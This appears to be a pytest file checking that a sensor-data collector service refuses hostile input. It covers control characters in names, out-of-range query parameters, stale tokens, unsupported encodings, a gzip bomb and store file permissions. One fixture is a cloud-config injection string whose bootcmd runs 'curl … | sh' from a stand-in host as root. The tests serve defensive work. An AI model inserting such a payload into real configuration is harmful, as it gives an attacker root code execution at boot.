"""
Hostile input against a real collector on loopback: control characters in admin-entered names,
query parameters out of range, the old token of a re-enrolled board, an unsupported body encoding,
and the store file's mode.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from listenpost.collector.app import create_app
from listenpost.collector.store.sqlite import SqliteStore
from tests.collector.test_api import (
    add_board,
    admin_headers,
    batch_body,
    enrolled,
    gz,
    make_client,
    readings,
    settings_for,
)

# A room name that, written unescaped into a cloud-config, adds a top-level key run as root at boot.
INJECTED_ROOM = "G0 Foyer\nbootcmd: [[sh, -c, 'curl -s http://203.0.113.9/x | sh']]\n#"

HOSTILE_TEXT = [
    INJECTED_ROOM,
    "G0\rFoyer",
    "G0\tFoyer",
    "G0\x00Foyer",
    "G0\x1bFoyer",  # ESC: rewrites a terminal's output in 'board list'
    "G0\x85Foyer",  # NEL, a YAML line break
    "G0\u2028Foyer",  # LINE SEPARATOR, a line break to str.splitlines
    "G0\u202eFoyer",  # RIGHT-TO-LEFT OVERRIDE: text that reads differently than it is
    "G0\ud800Foyer",  # a lone surrogate: not encodable as UTF-8 for the database
]


async def _error(r) -> dict:
    assert r.headers["Content-Type"].startswith("application/json"), await r.text()
    return (await r.json())["error"]


@pytest.mark.parametrize("field", ["room", "floor"])
@pytest.mark.parametrize("value", HOSTILE_TEXT, ids=repr)
async def test_board_add_refuses_control_characters_naming_the_field(
    aiohttp_client, tmp_path, clock, field, value
):
    client = await make_client(aiohttp_client, tmp_path, clock)
    body = {"name": "g0-a", "room": "G0 Foyer", "floor": "ground", field: value}
    r = await client.post("/v1/admin/boards", json=body, headers=admin_headers(tmp_path))
    assert r.status == 400
    err = await _error(r)
    # NUL and lone surrogates are refused earlier, by the strict JSON reader, which names the key.
    assert err["field"] == ("body" if value in ("G0\x00Foyer", "G0\ud800Foyer") else field)
    assert field in err["message"]
    r = await client.get("/v1/admin/boards", headers=admin_headers(tmp_path))
    assert (await r.json())["boards"] == []  # nothing stored


async def test_walktest_room_refuses_control_characters(aiohttp_client, tmp_path, clock):
    client = await make_client(aiohttp_client, tmp_path, clock)
    body = {"tag": "lpx:00000007", "marks": [{"room": INJECTED_ROOM, "from": 1, "to": 2}]}
    r = await client.post("/v1/admin/walktest", json=body, headers=admin_headers(tmp_path))
    assert r.status == 400
    assert (await _error(r))["field"] == "marks[0].room"
    body = {
        "tag": "lpx:00000007",
        "marks": [{"room": "G0", "from": 1, "to": 2}, {"room": "G1", "from": 1e300, "to": 2}],
    }
    r = await client.post("/v1/admin/walktest", json=body, headers=admin_headers(tmp_path))
    assert r.status == 400
    assert (await _error(r))["field"] == "marks[1].from"


# -------------------------------------------------------------------------------- query parameters


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("since=9223372036854775808", "since"),  # 2**63: past SQLite's and PostgreSQL's bigint
        ("since=-1", "since"),
        ("since=1e3", "since"),
        ("limit=-1", "limit"),
        ("limit=0", "limit"),
        ("limit=10001", "limit"),
        ("limit=99999999999999999999", "limit"),
        ("limit=ten", "limit"),
        ("board=G0%0AFoyer", "board"),
        ("board=%00", "board"),
    ],
)
async def test_events_query_out_of_range_is_a_400_naming_it(
    aiohttp_client, tmp_path, clock, store_factory, query, field
):
    client = await make_client(aiohttp_client, tmp_path, clock, store=await store_factory.open())
    r = await client.get(f"/v1/admin/events?{query}", headers=admin_headers(tmp_path))
    assert r.status == 400, await r.text()
    assert (await _error(r))["field"] == field


async def test_events_limit_bounds_are_inclusive(aiohttp_client, tmp_path, clock, store_factory):
    client = await make_client(aiohttp_client, tmp_path, clock, store=await store_factory.open())
    for q in ("limit=1", "limit=10000", f"since={2**63 - 1}", "since=0"):
        r = await client.get(f"/v1/admin/events?{q}", headers=admin_headers(tmp_path))
        assert r.status == 200, (q, await r.text())


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/v1/admin/boards?retired=yes", "retired"),
        ("/v1/admin/tags?retired=2", "retired"),
        ("/v1/admin/export?from=0&to=1e300", "to"),
        ("/v1/admin/export?from=-1e300&to=10", "from"),
        ("/v1/admin/export?from=nan&to=10", "from"),
        ("/v1/admin/export?from=0&to=10&bin=-1", "bin"),
        ("/v1/admin/export?from=0&to=10&format=xml", "format"),
        ("/v1/admin/export?from=0&to=10&board=G0%0Aa", "board"),
        ("/v1/admin/export?from=0&to=10&tag=nope", "tag"),
    ],
)
async def test_admin_query_parameters_are_checked(
    aiohttp_client, tmp_path, clock, store_factory, path, field
):
    client = await make_client(aiohttp_client, tmp_path, clock, store=await store_factory.open())
    r = await client.get(path, headers=admin_headers(tmp_path))
    assert r.status == 400, await r.text()
    assert (await _error(r))["field"] == field


async def test_a_board_name_outside_the_grammar_is_404_without_a_store_error(
    aiohttp_client, tmp_path, clock, store_factory
):
    client = await make_client(aiohttp_client, tmp_path, clock, store=await store_factory.open())
    for name in ("%00", "G0%0Aa", "%ED%A0%80"):
        r = await client.get(f"/v1/admin/boards/{name}", headers=admin_headers(tmp_path))
        assert r.status == 404, (name, await r.text())
        assert (await _error(r))["field"] == "name"


# ------------------------------------------------------------------------------------ credentials


async def test_the_old_token_stops_at_once_when_a_board_enrolls_again(aiohttp_client, tmp_path, clock):
    client = await make_client(aiohttp_client, tmp_path, clock)
    old = await enrolled(client, tmp_path, "g0-a")
    r = await client.get("/v1/config", headers=old)
    assert r.status == 200  # the token is now cached
    r = await client.post("/v1/admin/boards/g0-a/reissue", headers=admin_headers(tmp_path))
    code = (await r.json())["code"]
    r = await client.post("/v1/enroll", json={"code": code, "fingerprint": {"machine_id": "g0-a"}})
    assert r.status == 200
    new = {"Authorization": "Bearer " + (await r.json())["token"]}
    # The virtual clock has not moved: only dropping the cache can make the next request fail.
    r = await client.get("/v1/config", headers=old)
    assert r.status == 401, await r.text()
    r = await client.post("/v1/heartbeat", json={"boot": "b"}, headers=old)
    assert r.status == 401
    assert (await client.get("/v1/config", headers=new)).status == 200


# ------------------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("encoding", ["br", "zstd", "deflate", "compress", "gzip, br"])
async def test_an_unsupported_content_encoding_is_a_json_415(aiohttp_client, tmp_path, clock, encoding):
    client = await make_client(aiohttp_client, tmp_path, clock)
    token = await enrolled(client, tmp_path, "g0-a")
    r = await client.post(
        "/v1/batches",
        data=b"\x0b\x02\x80{}\x03",
        headers={**token, "Content-Type": "application/json", "Content-Encoding": encoding},
    )
    assert r.status == 415, await r.text()
    assert (await _error(r))["code"] == "unsupported_encoding"


async def test_gzip_bodies_still_inflate_within_the_limit(aiohttp_client, tmp_path, clock):
    client = await make_client(aiohttp_client, tmp_path, clock)
    await add_board(client, tmp_path, "g0-a")
    token = await enrolled(client, tmp_path, "g0-b")
    body = batch_body("g0-b", 1, readings(50))
    hdrs = {**token, "Content-Type": "application/json", "Content-Encoding": "gzip"}
    r = await client.post("/v1/batches", data=gz(body), headers=hdrs)
    assert r.status == 200, await r.text()
    # Truncated gzip: a 400 naming the body, not a hang or a 500.
    r = await client.post("/v1/batches", data=gz(body)[:-12], headers=hdrs)
    assert r.status == 400 and (await _error(r))["field"] == "body"
    # A bomb: 64 MiB of zeros compresses to ~64 KiB; refused at the inflated limit.
    import gzip

    bomb = gzip.compress(b"0" * (64 * 1024 * 1024))
    r = await client.post("/v1/batches", data=bomb, headers=hdrs)
    assert r.status == 413


# ------------------------------------------------------------------------------------ file modes


def _modes(directory: Path, prefix: str) -> dict[str, int]:
    return {p.name: stat.S_IMODE(p.stat().st_mode) for p in directory.iterdir() if p.name.startswith(prefix)}


async def test_the_sqlite_store_and_its_wal_files_are_owner_only(tmp_path):
    old = os.umask(0o022)  # a login shell's default: what `collector serve` run by hand gets
    try:
        store = await SqliteStore.open(tmp_path / "collector.sqlite")
        try:
            await store.add_tags(["lpx:00000007"], 1.0)  # something in the WAL
            modes = _modes(tmp_path, "collector.sqlite")
        finally:
            await store.close()
    finally:
        os.umask(old)
    assert set(modes) >= {"collector.sqlite", "collector.sqlite-wal", "collector.sqlite-shm"}
    assert set(modes.values()) == {0o600}, modes


async def test_the_collector_creates_its_default_store_owner_only(aiohttp_client, tmp_path, clock):
    old = os.umask(0o022)
    try:
        app = create_app(settings_for(tmp_path), clock=clock, run_monitor=False)
        client = await aiohttp_client(app)
        assert (await client.get("/v1/status")).status == 200
        modes = _modes(tmp_path, "collector.")
    finally:
        os.umask(old)
    assert modes and set(modes.values()) == {0o600}, modes


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e400", "abc", ""])
async def test_the_health_page_refresh_parameter_is_checked(aiohttp_client, tmp_path, clock, value):
    client = await make_client(aiohttp_client, tmp_path, clock)
    r = await client.get("/", params={"refresh": value})
    assert r.status == 400, await r.text()
    assert (await _error(r))["field"] == "refresh"
    for ok in ("0.3", "0.01", "1000"):  # finite values outside 0.2..300 s are clamped, as before
        assert (await client.get("/", params={"refresh": ok})).status == 200
